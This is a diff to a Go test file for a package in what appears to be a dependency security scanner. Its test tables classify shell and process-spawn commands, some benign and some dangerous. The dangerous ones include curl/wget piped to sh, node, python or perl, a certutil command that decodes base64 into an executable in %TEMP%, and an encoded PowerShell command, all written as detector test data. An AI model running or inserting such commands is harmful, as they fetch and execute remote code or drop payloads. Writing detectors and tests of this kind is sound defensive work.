@@ -1,6 +1,10 @@
 package rulekit
 
-import "testing"
+import (
+	"testing"
+
+	"github.com/depfence/depfence/internal/jsast"
+)
 
 func TestPublicIP(t *testing.T) {
 	for host, want := range map[string]bool{
@@ -40,6 +44,8 @@ func TestPowerShellDanger(t *testing.T) {
 func TestShellDanger(t *testing.T) {
 	for cmd, want := range map[string]bool{
 		"curl -fsSL https://x.invalid/i.sh | sh":                      true,
+		`certutil -decode "%TEMP%\\d.b64" "%TEMP%\\r.exe"`:            true,
+		"certutil -hashfile setup.exe SHA256":                         false,
 		"curl -s https://x.invalid/p.js | node":                       true,
 		"wget -qO- https://x.invalid/p.py | python3 -":                true,
 		"curl -s https://x.invalid/p.pl | perl":                       true,
@@ -62,6 +68,25 @@ func TestShellDanger(t *testing.T) {
 	} {
 		if got := ShellDanger(cmd) != ""; got != want {
 			t.Errorf("ShellDanger(%q) = %q, want %v", cmd, ShellDanger(cmd), want)
+		}
+	}
+}
+
+func TestSpawnCommand(t *testing.T) {
+	arg := func(v string) jsast.Arg { return jsast.Arg{Value: v, Known: true} }
+	list := func(l ...string) jsast.Arg { return jsast.Arg{List: l} }
+	for _, tc := range []struct {
+		c    jsast.Call
+		want string
+	}{
+		{jsast.Call{Callee: "child_process.spawn", Args: []jsast.Arg{arg("powershell.exe"), list("-NoP", "-EncodedCommand", "SQBFAFgA")}}, "powershell.exe -NoP -EncodedCommand SQBFAFgA"},
+		{jsast.Call{Callee: "child_process.execFileSync", Args: []jsast.Arg{arg("sh"), list("-c", jsast.Hole)}}, "sh -c " + jsast.Hole},
+		// exec's second argument is its options, not an argument list
+		{jsast.Call{Callee: "child_process.exec", Args: []jsast.Arg{arg("git status"), list("x")}}, "git status"},
+		{jsast.Call{Callee: "Bun.spawn", Args: []jsast.Arg{list("sh", "-c", "id")}}, "sh -c id"},
+	} {
+		if got := SpawnCommand(tc.c); got != tc.want {
+			t.Errorf("%s: %q, want %q", tc.c.Callee, got, tc.want)
 		}
 	}
 }
